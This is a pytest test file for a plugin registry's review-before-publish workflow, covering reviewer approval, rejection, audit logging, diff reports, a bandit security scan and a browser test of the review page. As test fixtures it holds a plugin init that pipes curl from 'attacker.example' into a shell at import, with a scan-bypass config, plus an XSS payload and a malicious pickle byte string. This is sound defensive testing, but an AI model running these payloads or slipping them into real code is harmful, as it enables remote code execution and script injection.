"""Review before publishing (issue 14): the queue, reviewer tokens, reports, audit, the CLI.

With ``review="required"`` nothing a publisher uploads reaches the manifest, the downloads
or the signed index until a reviewer approves it; a rejection keeps the version number and
tells the publisher why. The scan and the diff are checked on real packages.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from plugdock.errors import NotFoundError, PlugdockError
from plugdock.installer import Installer
from plugdock.package.checksums import render, sha256_bytes
from plugdock.server import Storage, create_app, startup_warnings
from plugdock.server.scan import scan_python
from plugdock.trust.signing import generate_keypair, load_private_key, sign_package
from remote_helpers import host_settings, start_remote, trust_alice
from support import detail, make_plugin, pack_into

APPROVE = "/api/v1/review/versions/{}/{}/approve"
REJECT = "/api/v1/review/versions/{}/{}/reject"


@pytest.fixture
def client(storage: Storage) -> Iterator[TestClient]:
    with TestClient(create_app(storage)) as test_client:  # the default: review required
        yield test_client


def _package(tmp_path: Path, plugin_id: str = "notes", version: str = "1.0.0", **kw) -> Path:
    where = tmp_path / f"{plugin_id}-{version}-{len(list(tmp_path.iterdir()))}"
    return pack_into(make_plugin(where / "src", plugin_id, version, **kw), where / "dist")


def _post(client: TestClient, package: Path, token: str):
    return client.post(
        "/api/v1/plugins",
        files={"file": (package.name, package.read_bytes(), "application/zip")},
        headers={"Authorization": f"Bearer {token}"},
    )


def _auth(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


def _hidden(client: TestClient, storage: Storage, plugin_id: str, version: str) -> None:
    """Nothing a host reads shows this version."""
    assert plugin_id not in client.get("/manifest.json").json()["plugins"]
    assert client.get(f"/download/{plugin_id}/{version}").status_code == 404
    assert client.get(f"/download/{plugin_id}/latest").status_code == 404
    assert f"{plugin_id}/{version}.zip" not in storage.index.targets()
    assert plugin_id not in client.get("/").text


def test_a_pending_version_is_hidden_until_a_reviewer_approves_it(
    tmp_path: Path, storage: Storage, client: TestClient
) -> None:
    alice = storage.create_token("alice")
    carol = storage.create_token("carol", "reviewer")
    assert carol.startswith("pdr_") and alice.startswith("pdt_")
    package = _package(tmp_path)
    key, _ = generate_keypair(tmp_path, "alice")
    sign_package(package, load_private_key(key), "alice")

    answer = _post(client, package, alice)
    assert answer.status_code == 201, answer.text
    record = answer.json()
    assert record["status"] == "pending"
    _hidden(client, storage, "notes", "1.0.0")
    targets_before = storage.index.targets()

    # The publisher sees it waiting; a reviewer sees it in the queue with its report.
    mine = client.get("/api/v1/publisher/versions", headers=_auth(alice)).json()["versions"]
    assert [(v["id"], v["version"], v["status"]) for v in mine] == [("notes", "1.0.0", "pending")]
    queue = client.get("/api/v1/review/versions", headers=_auth(carol)).json()["versions"]
    assert [(v["id"], v["version"]) for v in queue] == [("notes", "1.0.0")]
    shown = client.get("/api/v1/review/versions/notes/1.0.0", headers=_auth(carol)).json()
    assert shown["report"]["sha256"] == record["sha256"]
    assert shown["report"]["declared"]["tables"] == ["notes_notes"]
    assert shown["report"]["declared"]["backend_routes"] == ["/api/v1/notes/*"]
    assert shown["report"]["signature"]["signer"] == "alice"
    assert shown["report"]["diff"] is None
    zipped = client.get("/api/v1/review/versions/notes/1.0.0/package", headers=_auth(carol))
    assert zipped.content == package.read_bytes()

    approved = client.post(APPROVE.format("notes", "1.0.0"), headers=_auth(carol))
    assert approved.status_code == 200, approved.text
    assert approved.json()["approved_by"] == "carol"

    entry = client.get("/manifest.json").json()["plugins"]["notes"]
    assert entry["latest"] == "1.0.0"
    assert entry["versions"]["1.0.0"]["approved_by"] == "carol"
    assert client.get("/download/notes/latest").content == package.read_bytes()
    target = storage.index.targets()["notes/1.0.0.zip"]
    assert target.hashes["sha256"] == record["sha256"]
    assert target.unrecognized_fields["custom"]["approved_by"] == "carol"
    assert target.unrecognized_fields["custom"]["signer_key_id"] == record["signer_key_id"]
    assert targets_before == {}
    # Approved once: a second decision is a conflict, not a silent change.
    again = client.post(REJECT.format("notes", "1.0.0"), json={"reason": "x"}, headers=_auth(carol))
    assert again.status_code == 409

    # The audit trail: who, when, which bytes.
    audit = [json.loads(line) for line in storage.audit.path.read_text().splitlines()]
    assert [(a["action"], a["who"], a["role"]) for a in audit] == [
        ("publish", "alice", "publisher"),
        ("approve", "carol", "reviewer"),
    ]
    assert all(a["sha256"] == record["sha256"] and a["at"] for a in audit)
    assert oct(storage.audit.path.stat().st_mode & 0o777) == "0o600"


def test_a_rejected_version_is_never_listed_and_its_number_stays_taken(
    tmp_path: Path, storage: Storage, client: TestClient
) -> None:
    alice = storage.create_token("alice")
    carol = storage.create_token("carol", "reviewer")
    assert _post(client, _package(tmp_path), alice).status_code == 201

    no_reason = client.post(REJECT.format("notes", "1.0.0"), json={}, headers=_auth(carol))
    assert no_reason.status_code == 422 and "reason" in detail(no_reason)
    blank = client.post(
        REJECT.format("notes", "1.0.0"), json={"reason": "  "}, headers=_auth(carol)
    )
    assert blank.status_code == 422
    reason = "runs a shell command at import"
    rejected = client.post(
        REJECT.format("notes", "1.0.0"), json={"reason": reason}, headers=_auth(carol)
    )
    assert rejected.status_code == 200 and rejected.json()["status"] == "rejected"
    _hidden(client, storage, "notes", "1.0.0")

    mine = client.get("/api/v1/publisher/versions", headers=_auth(alice)).json()["versions"]
    assert mine[0]["status"] == "rejected" and mine[0]["reason"] == reason
    again = _post(client, _package(tmp_path), alice)
    assert again.status_code == 409 and "rejected" in detail(again)
    late = client.post(APPROVE.format("notes", "1.0.0"), headers=_auth(carol))
    assert late.status_code == 409
    _hidden(client, storage, "notes", "1.0.0")
    assert storage.audit.entries("notes", "1.0.0")[-1]["reason"] == reason


def test_a_publisher_cannot_approve(tmp_path: Path, storage: Storage, client: TestClient) -> None:
    alice = storage.create_token("alice")
    assert _post(client, _package(tmp_path), alice).status_code == 201

    assert client.post(APPROVE.format("notes", "1.0.0")).status_code == 401
    own = client.post(APPROVE.format("notes", "1.0.0"), headers=_auth(alice))
    assert own.status_code == 403 and "reviewer" in detail(own)
    assert client.get("/api/v1/review/versions", headers=_auth(alice)).status_code == 403
    assert (
        client.get("/api/v1/review/versions/notes/1.0.0", headers=_auth(alice)).status_code == 403
    )
    assert (
        client.get("/api/v1/review/versions/notes/1.0.0/package", headers=_auth(alice)).status_code
        == 403
    )
    # An operator who makes alice a reviewer too still cannot let her pass her own version.
    alice_reviews = storage.create_token("alice", "reviewer")
    self_approval = client.post(APPROVE.format("notes", "1.0.0"), headers=_auth(alice_reviews))
    assert self_approval.status_code == 403 and "may not approve" in detail(self_approval)
    _hidden(client, storage, "notes", "1.0.0")
    # And a reviewer token does not publish.
    assert _post(client, _package(tmp_path, version="1.0.1"), alice_reviews).status_code == 403
    assert [a["action"] for a in storage.audit.entries()] == ["publish"]


def _add_files(package: Path, extra: dict[str, bytes]) -> None:
    """Rewrite a package zip with more files, and checksums that cover them."""
    with zipfile.ZipFile(package) as archive:
        entries = {i.filename: archive.read(i) for i in archive.infolist()}
    entries.update(extra)
    entries.pop("CHECKSUMS.sha256")
    entries["CHECKSUMS.sha256"] = render({k: sha256_bytes(v) for k, v in entries.items()}).encode()
    with zipfile.ZipFile(package, "w") as archive:
        for name, data in entries.items():
            archive.writestr(name, data)


EVIL_INIT = """\
import os
import subprocess

os.system("curl -s https://attacker.example/x | sh")  # nosec
from .routes import router


def later():
    subprocess.run("ls", shell=True)
"""


def test_the_scan_flags_a_shell_command_run_at_import(
    tmp_path: Path, storage: Storage, client: TestClient
) -> None:
    alice = storage.create_token("alice")
    carol = storage.create_token("carol", "reviewer")
    # '# nosec' and a .bandit file (added by hand: pack skips dotfiles; the top level
    # refuses it) that skips the shell tests try to switch the scan off.
    evil = _package(tmp_path, "evil", extra_files={"backend/__init__.py": EVIL_INIT})
    _add_files(evil, {"backend/.bandit": b"[bandit]\nskips: B404,B602,B605,B607\n"})
    assert _post(client, evil, alice).status_code == 201
    scan = client.get("/api/v1/review/versions/evil/1.0.0", headers=_auth(carol)).json()["report"][
        "scan"
    ]
    assert scan["status"] == "ok" and scan["tool"].startswith("bandit ")
    by_test = {(f["test_id"], f["line"]): f for f in scan["findings"]}
    shell = by_test[("B605", 4)]  # start_process_with_a_shell: os.system
    assert shell["file"] == "backend/__init__.py"
    assert shell["at_import"] is True and shell["severity"] in ("HIGH", "MEDIUM", "LOW")
    in_function = by_test[("B602", 9)]  # subprocess with shell=True, inside a function
    assert in_function["at_import"] is False
    assert sum(scan["counts"].values()) == len(scan["findings"]) >= 3  # + B404 import

    # The harmless plugin has nothing at import.
    assert _post(client, _package(tmp_path, "calm"), alice).status_code == 201
    calm = client.get("/api/v1/review/versions/calm/1.0.0", headers=_auth(carol)).json()
    assert not [f for f in calm["report"]["scan"]["findings"] if f["at_import"]]


def test_the_diff_shows_a_new_permission_and_a_new_table(
    tmp_path: Path, storage: Storage, client: TestClient
) -> None:
    alice = storage.create_token("alice")
    carol = storage.create_token("carol", "reviewer")
    assert _post(client, _package(tmp_path), alice).status_code == 201
    assert client.post(APPROVE.format("notes", "1.0.0"), headers=_auth(carol)).status_code == 200

    up_sql = (
        "CREATE TABLE notes_notes (id INTEGER PRIMARY KEY AUTOINCREMENT, body TEXT NOT NULL);\n"
        "CREATE TABLE notes_tags (id INTEGER PRIMARY KEY AUTOINCREMENT, tag TEXT NOT NULL);\n"
    )
    newer = _package(
        tmp_path,
        version="1.1.0",
        up_sql=up_sql,
        down_sql="DROP TABLE notes_tags;\nDROP TABLE notes_notes;\n",
        metadata={"permissions": ["network"]},
    )
    assert _post(client, newer, alice).status_code == 201
    report = client.get("/api/v1/review/versions/notes/1.1.0", headers=_auth(carol)).json()[
        "report"
    ]
    diff = report["diff"]
    assert diff["against"] == "1.0.0"
    assert diff["permissions"] == {"added": ["network"], "removed": []}
    assert diff["tables"] == {"added": ["notes_tags"], "removed": []}
    assert "migrations/up.sql" in diff["files"]["changed"]
    up = next(s for s in diff["sql"] if s["path"] == "migrations/up.sql")
    assert "+CREATE TABLE notes_tags" in up["diff"]
    assert "-INSERT INTO notes_notes" in up["diff"]
    assert report["declared"]["permissions"] == ["network"]
    assert report["checks"]["upgrade"]["from"] == "1.0.0"
    # 1.0.0 is still what hosts get until 1.1.0 is approved.
    assert client.get("/manifest.json").json()["plugins"]["notes"]["latest"] == "1.0.0"
    assert client.get("/download/notes/latest").headers["x-plugdock-version"] == "1.0.0"


def test_review_off_keeps_todays_behaviour(tmp_path: Path, storage: Storage) -> None:
    alice = storage.create_token("alice")
    with TestClient(create_app(storage, review="off")) as client:
        answer = _post(client, _package(tmp_path), alice)
        assert answer.status_code == 201
        assert "status" not in answer.json()
        entry = client.get("/manifest.json").json()["plugins"]["notes"]
        assert entry["latest"] == "1.0.0" and "status" not in entry["versions"]["1.0.0"]
        assert client.get("/download/notes/1.0.0").status_code == 200
    target = storage.index.targets()["notes/1.0.0.zip"]
    assert target.unrecognized_fields["custom"] == {"signer_key_id": None}
    assert not storage.report_path("notes", "1.0.0").exists()
    # Only the audit trail is new: the publish is on record.
    assert [(a["action"], a["status"]) for a in storage.audit.entries()] == [
        ("publish", "published")
    ]
    with pytest.raises(Exception, match="review must be one of"):
        create_app(storage, review="sometimes")


def test_the_server_warns_when_review_is_required_without_a_reviewer(storage: Storage) -> None:
    assert any("no reviewer" in w for w in startup_warnings(storage, "required"))
    assert not any("no reviewer" in w for w in startup_warnings(storage, "off"))
    storage.create_token("carol", "reviewer")
    assert not any("no reviewer" in w for w in startup_warnings(storage, "required"))


def _plugdock(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "plugdock", *args],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "COLUMNS": "200", **(env or {})},
    )


@pytest.mark.server  # plugdock server
def test_publish_review_approve_install_from_a_remote_host(tmp_path: Path) -> None:
    """The whole flow with the real CLI: publish → pending → reject/approve → host installs."""
    live, remote = start_remote(tmp_path, review="required")
    try:
        carol = remote.storage.create_token("carol", "reviewer")
        package = _package(tmp_path)
        sign_package(package, load_private_key(remote.key_path), "alice")
        published = _plugdock(
            "publish", str(package), "--server", remote.url, "--token", remote.token
        )
        assert published.returncode == 0, published.stderr
        assert "pending review" in published.stdout

        settings = host_settings(tmp_path, remote.url)
        trust_alice(settings, remote)
        installer = Installer(settings)
        assert "notes" not in installer.source.catalog().plugins
        with pytest.raises(NotFoundError):
            installer.install("notes")

        as_carol = {"PLUGIN_SERVER_URL": remote.url, "PLUGDOCK_REVIEW_TOKEN": carol}
        listed = _plugdock("server", "review", "list", env=as_carol)
        assert listed.returncode == 0, listed.stderr
        assert "notes" in listed.stdout and "1.0.0" in listed.stdout
        shown = _plugdock("server", "review", "show", "notes", "1.0.0", env=as_carol)
        assert shown.returncode == 0, shown.stderr
        assert "tables: notes_notes" in shown.stdout and "scan (bandit" in shown.stdout
        # The publisher's token is no reviewer's.
        as_alice = {"PLUGIN_SERVER_URL": remote.url, "PLUGDOCK_REVIEW_TOKEN": remote.token}
        refused = _plugdock("server", "review", "approve", "notes", "1.0.0", env=as_alice)
        assert refused.returncode == 1 and "error:" in refused.stderr
        assert "HTTP 403" in refused.stderr

        approved = _plugdock("server", "review", "approve", "notes", "1.0.0", env=as_carol)
        assert approved.returncode == 0, approved.stderr
        assert "approved" in approved.stdout and "carol" in approved.stdout

        result = installer.install("notes")
        assert result.version == "1.0.0" and result.tables == ["notes_notes"]

        # A rejected 1.1.0: never offered to the host; the publisher reads why.
        newer = _package(tmp_path, version="1.1.0")
        remote.publish(newer)
        rejected = _plugdock(
            "server",
            "review",
            "reject",
            "notes",
            "1.1.0",
            "--reason",
            "adds a shell call [/]",
            env=as_carol,
        )
        assert rejected.returncode == 0, rejected.stderr
        status = _plugdock(
            "server", "status", "notes", "--server", remote.url, "--token", remote.token
        )
        assert status.returncode == 0, status.stderr
        assert "notes 1.1.0: rejected — reason: adds a shell call [/]" in status.stdout
        assert "notes 1.0.0: approved (approved by carol)" in status.stdout
        assert installer.source.catalog().plugins["notes"].versions == ("1.0.0",)
        installer.uninstall("notes")
    finally:
        live.__exit__()


@pytest.mark.server  # LiveServer
def test_a_reviewer_signs_in_opens_a_pending_version_and_approves_it(tmp_path: Path, page) -> None:
    """The review page in Chromium: queue, report, diff, approve; package text stays text."""
    from playwright.sync_api import expect

    from browser_support import ARTIFACTS
    from remote_helpers import LiveServer

    storage = Storage(tmp_path / "data").ensure()
    alice = storage.create_token("alice")
    carol = storage.create_token("carol", "reviewer")
    attack = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>'
    with LiveServer(create_app(storage)) as live, TestClient(create_app(storage)) as client:
        assert _post(client, _package(tmp_path), alice).status_code == 201
        assert (
            client.post(APPROVE.format("notes", "1.0.0"), headers=_auth(carol)).status_code == 200
        )
        newer = _package(
            tmp_path,
            version="1.1.0",
            up_sql=(
                "CREATE TABLE notes_notes (id INTEGER PRIMARY KEY AUTOINCREMENT, body TEXT);\n"
                "CREATE TABLE notes_tags (id INTEGER PRIMARY KEY AUTOINCREMENT, tag TEXT);\n"
            ),
            down_sql="DROP TABLE notes_tags;\nDROP TABLE notes_notes;\n",
            metadata={"permissions": ["network"], "description": attack},
        )
        assert _post(client, newer, alice).status_code == 201

        answer = client.get("/review")
        assert "script-src 'self'" in answer.headers["content-security-policy"]

        page.goto(f"{live.url}/review")
        page.get_by_label("Reviewer token").fill(alice)  # a publisher's token is refused
        page.get_by_role("button", name="Sign in").click()
        expect(page.locator("#message")).to_contain_text("sign-in failed")
        page.get_by_label("Reviewer token").fill(carol)
        page.get_by_role("button", name="Sign in").click()
        expect(page.locator("#who")).to_have_text("signed in as carol")

        row = page.locator('#queue tr[data-plugin="notes"][data-version="1.1.0"]')
        expect(row).to_be_visible()
        row.get_by_role("button", name="Open").click()
        expect(page.locator("#detail-title")).to_have_text("notes 1.1.0")
        expect(page.locator("#detail-status")).to_have_text("pending")
        expect(page.locator("#summary")).to_contain_text(attack)
        expect(page.locator('[data-diff="permissions"]')).to_contain_text("+ network")
        expect(page.locator('[data-diff="tables"]')).to_contain_text("+ notes_tags")
        expect(page.locator("#diff")).to_contain_text("+CREATE TABLE notes_tags")
        assert page.locator("#detail-panel img, #detail-panel script").count() == 0
        assert page.evaluate("window.__pwned") is None
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "review.png"), full_page=True)

        page.get_by_role("button", name="Approve").click()
        expect(page.locator("#detail-status")).to_have_text("approved")
        expect(page.locator("#message")).to_contain_text("notes 1.1.0 approved by carol")
        expect(page.locator('#queue tr[data-plugin="notes"]')).to_have_count(0)
        assert client.get("/manifest.json").json()["plugins"]["notes"]["latest"] == "1.1.0"
        assert (
            storage.index.targets()["notes/1.1.0.zip"].unrecognized_fields["custom"]["approved_by"]
            == "carol"
        )


def test_approval_refuses_a_stored_package_changed_after_upload(
    tmp_path: Path, storage: Storage, client: TestClient
) -> None:
    """What is signed into the index is what was reviewed: the bytes are hashed again."""
    alice = storage.create_token("alice")
    carol = storage.create_token("carol", "reviewer")
    assert _post(client, _package(tmp_path), alice).status_code == 201
    stored = storage.package_path("notes", "1.0.0")
    stored.chmod(0o644)
    stored.write_bytes(stored.read_bytes() + b"tampered")
    answer = client.post(APPROVE.format("notes", "1.0.0"), headers=_auth(carol))
    assert answer.status_code == 422 and "no longer matches its sha256" in detail(answer)
    assert str(storage.data_dir) not in answer.text
    _hidden(client, storage, "notes", "1.0.0")
    assert client.get("/api/v1/review/versions", headers=_auth(carol)).json()["versions"]


def test_a_pending_version_claims_its_id_and_publishers_see_only_their_own(
    tmp_path: Path, storage: Storage, client: TestClient
) -> None:
    alice = storage.create_token("alice")
    bob = storage.create_token("bob")
    assert _post(client, _package(tmp_path), alice).status_code == 201
    stolen = _post(client, _package(tmp_path, version="1.0.1"), bob)
    assert stolen.status_code == 403 and "another publisher" in detail(stolen)
    assert client.get("/api/v1/publisher/versions", headers=_auth(bob)).json()["versions"] == []
    assert client.get("/api/v1/publisher/versions").status_code == 401
    assert client.get("/api/v1/publisher/versions", headers=_auth("pdt_nope")).status_code == 403


@pytest.mark.parametrize(
    ("method", "path", "body", "status"),
    [
        ("get", "/api/v1/review/versions?status=bogus", None, 422),
        ("get", "/api/v1/review/versions/Not-An-Id/1.0.0", None, 422),
        ("get", "/api/v1/review/versions/notes/1.0", None, 422),
        ("get", "/api/v1/review/versions/notes/9.9.9", None, 404),
        ("get", "/api/v1/review/versions/notes/9.9.9/package", None, 404),
        ("post", "/api/v1/review/versions/notes/9.9.9/approve", None, 404),
        ("post", "/api/v1/review/versions/notes/1.0.0/reject", {"reason": "x" * 2001}, 422),
        ("post", "/api/v1/review/versions/notes/1.0.0/reject", {"reason": 7}, 422),
        ("post", "/api/v1/review/versions/notes/1.0.0/reject", ["not", "an", "object"], 422),
    ],
)
def test_bad_review_requests_are_clear_json_errors_and_change_nothing(
    tmp_path: Path, storage: Storage, client: TestClient, method, path, body, status
) -> None:
    alice = storage.create_token("alice")
    carol = storage.create_token("carol", "reviewer")
    assert _post(client, _package(tmp_path), alice).status_code == 201
    before = storage.catalog_path.read_bytes()
    kwargs = {"json": body} if body is not None else {}
    answer = getattr(client, method)(path, headers=_auth(carol), **kwargs)
    assert answer.status_code == status
    # Every 422 is a list of issues (as the panel's); other errors a sentence.
    assert isinstance(answer.json()["detail"], list if status == 422 else str)
    assert storage.catalog_path.read_bytes() == before
    assert [a["action"] for a in storage.audit.entries()] == ["publish"]


def test_a_scan_that_runs_too_long_is_reported_not_fatal(tmp_path: Path, storage: Storage) -> None:
    alice = storage.create_token("alice")
    with TestClient(create_app(storage, scan_timeout=0.001)) as client:
        assert _post(client, _package(tmp_path), alice).status_code == 201
    scan = storage.report("notes", "1.0.0")["scan"]
    assert scan["status"] == "timeout" and "took over" in scan["detail"]


def test_the_scan_reports_files_it_cannot_read(tmp_path: Path) -> None:
    """Never "no findings" for code the reviewer cannot see (the package reader refuses
    compiled code before a report is made; the scan does not rely on it)."""
    unpacked = make_plugin(tmp_path, "notes")
    (unpacked / "backend" / "__pycache__").mkdir()
    (unpacked / "backend" / "__pycache__" / "routes.cpython-311.pyc").write_bytes(b"\xa7\r\r\n")
    (unpacked / "backend" / "_fast.so").write_bytes(b"\x7fELF\x02\x01\x01\x00")
    (unpacked / "backend" / "model.pkl").write_bytes(b"\x80\x04\x95\x00cos\nsystem\n")
    (unpacked / "frontend" / "logo.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00")
    scan = scan_python(unpacked)
    assert scan["status"] == "ok"
    found = {f["file"]: f for f in scan["findings"]}
    assert set(found) == {
        "backend/__pycache__/routes.cpython-311.pyc",
        "backend/_fast.so",
        "backend/model.pkl",
    }
    compiled = found["backend/_fast.so"]
    assert (compiled["test_id"], compiled["severity"], compiled["at_import"]) == (
        "PD001",
        "HIGH",
        True,
    )
    assert "compiled or native code" in compiled["text"]
    assert found["backend/model.pkl"]["test_id"] == "PD002"
    assert found["backend/model.pkl"]["severity"] == "MEDIUM"
    assert scan["counts"]["HIGH"] == 2 and scan["counts"]["MEDIUM"] == 1
    # Also with no Python source at all (bandit has nothing to read).
    (unpacked / "backend" / "routes.py").unlink()
    (unpacked / "backend" / "__init__.py").unlink()
    assert {f["file"] for f in scan_python(unpacked)["findings"]} == set(found)


@pytest.mark.server  # plugdock server
def test_plugdock_server_requires_review_by_default(tmp_path: Path) -> None:
    from test_server import _run_server

    stderr = _run_server(tmp_path / "data")
    assert "review required" in stderr and "/review" in stderr
    assert "there is no reviewer" in stderr


def test_a_server_with_review_refuses_to_start_without_its_scanner(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """bandit comes with the ``server`` extra: a panel-only install lacks it, and a reviewing
    server must not start and publish versions whose code nobody scanned."""
    storage = Storage(tmp_path / "store")
    storage.ensure()
    monkeypatch.setitem(sys.modules, "bandit", None)  # as if `pip install plugdock` alone

    with pytest.raises(PlugdockError, match=r"pip install 'plugdock\[server\]'"):
        create_app(storage, review="required")
    create_app(storage, review="off")  # without review there is nothing to scan
